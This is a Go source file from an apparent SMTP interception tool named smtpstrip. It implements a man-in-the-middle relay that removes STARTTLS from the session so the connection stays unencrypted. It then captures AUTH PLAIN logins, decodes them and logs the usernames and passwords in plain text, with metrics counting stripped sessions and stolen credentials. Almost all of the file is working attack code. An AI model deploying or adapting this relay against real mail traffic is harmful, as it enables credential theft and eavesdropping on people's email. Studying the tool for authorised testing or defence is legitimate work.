package relay

import (
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"strings"
	"unicode/utf8"

	"github.com/awnumar/memguard"
	"github.com/matst80/smtpstrip/internal/obs"
	"github.com/matst80/smtpstrip/internal/proto"
)

// chunkSize is the read size of a pump. A read shorter than this ends a segment.
const chunkSize = 1024

type direction struct {
	idx    int
	label  string
	metric string
}

var (
	clientToRemote = direction{idx: 0, label: "Client->Remote", metric: "client_to_remote"}
	remoteToClient = direction{idx: 1, label: "Remote->Client", metric: "remote_to_client"}
)

// pump copies one direction of a session, inspecting every segment before it
// is forwarded.
type pump struct {
	dir direction
	log *obs.Logger
	rec *record
}

// run reads src until EOF. Each segment is inspected, logged and then written to
// dst in full. It returns nil on a clean EOF.
func (p pump) run(src io.Reader, dst io.Writer) error {
	var buf []byte
	chunk := make([]byte, chunkSize)
	for {
		n, err := src.Read(chunk)
		if n > 0 {
			buf = append(buf, chunk[:n]...)
		}
		eof := errors.Is(err, io.EOF)
		if err != nil && !eof {
			return &IOError{Dir: p.dir.label, Op: "read", Err: err}
		}
		if (n > 0 && n < chunkSize) || (eof && len(buf) > 0) {
			if err := p.forward(buf, dst); err != nil {
				return err
			}
			buf = buf[:0]
		}
		if eof {
			p.log.Debug("pump.eof", obs.Fields{"session": p.rec.id, "dir": p.dir.label})
			return nil
		}
	}
}

func (p pump) forward(seg []byte, dst io.Writer) error {
	if isASCII(seg) {
		seg = p.inspect(seg)
	}
	p.logSegment(seg)
	n, err := dst.Write(seg)
	if err == nil && n < len(seg) {
		err = io.ErrShortWrite
	}
	if err != nil {
		return &IOError{Dir: p.dir.label, Op: "write", Err: err}
	}
	p.rec.bytes[p.dir.idx].Add(int64(n))
	obs.BytesForwardedTotal.WithLabelValues(p.dir.metric).Add(float64(n))
	obs.SegmentsTotal.WithLabelValues(p.dir.metric).Inc()
	return nil
}

// inspect applies the STARTTLS rewrite or, failing that, the AUTH PLAIN capture.
// seg must be ASCII.
func (p pump) inspect(seg []byte) []byte {
	if out, ok := proto.StripStartTLS(seg); ok {
		p.logSegment(seg)
		p.log.Debug("pump.starttls.strip", obs.Fields{"session": p.rec.id, "dir": p.dir.label})
		p.rec.stripped.Store(true)
		obs.StartTLSStrippedTotal.Inc()
		return out
	}
	if payload, ok := proto.AuthPlainPayload(seg); ok {
		p.capture(payload)
	}
	return seg
}

// wipe clears decoded credential bytes once they have been logged.
var wipe = memguard.WipeBytes

// capture logs the decoded AUTH PLAIN payload. Decode failures are logged and
// otherwise ignored; nothing here may stop the pump.
func (p pump) capture(payload []byte) {
	defer func() {
		if r := recover(); r != nil {
			p.log.Error("pump.credentials", obs.Fields{"session": p.rec.id, "err": fmt.Sprint(r)})
			obs.CredentialFailuresTotal.WithLabelValues("panic").Inc()
		}
	}()
	p.log.Debug("pump.credentials.base64", obs.Fields{"session": p.rec.id, "payload": string(payload)})
	decoded, err := base64.StdEncoding.DecodeString(string(payload))
	if err != nil {
		p.log.Error("pump.credentials", obs.Fields{"session": p.rec.id, "err": "credentials are not base64 decodable"})
		obs.CredentialFailuresTotal.WithLabelValues("base64").Inc()
		return
	}
	defer wipe(decoded)
	if !utf8.Valid(decoded) {
		p.log.Error("pump.credentials", obs.Fields{"session": p.rec.id, "err": "credentials are not utf8 decodable"})
		obs.CredentialFailuresTotal.WithLabelValues("utf8").Inc()
		return
	}
	p.rec.credentials.Add(1)
	obs.CredentialsCapturedTotal.Inc()
	creds := string(decoded)
	p.log.Info("pump.credentials", obs.Fields{"session": p.rec.id, "credentials": creds})
	if plain, ok := proto.ParsePlain(creds); ok {
		p.log.Debug("pump.credentials.plain", obs.Fields{"session": p.rec.id, "identity": plain.Identity, "username": plain.Username})
	}
}

func (p pump) logSegment(seg []byte) {
	if isASCII(seg) {
		p.log.Info("pump.segment", obs.Fields{"session": p.rec.id, "dir": p.dir.label, "data": escapeLines(seg)})
		return
	}
	p.log.Info("pump.segment", obs.Fields{"session": p.rec.id, "dir": p.dir.label, "raw": fmt.Sprint(seg)})
}

var lineEscaper = strings.NewReplacer("\r", "<CR>", "\n", "<LF>")

func escapeLines(seg []byte) string { return lineEscaper.Replace(string(seg)) }

func isASCII(b []byte) bool {
	for _, c := range b {
		if c >= utf8.RuneSelf {
			return false
		}
	}
	return true
}
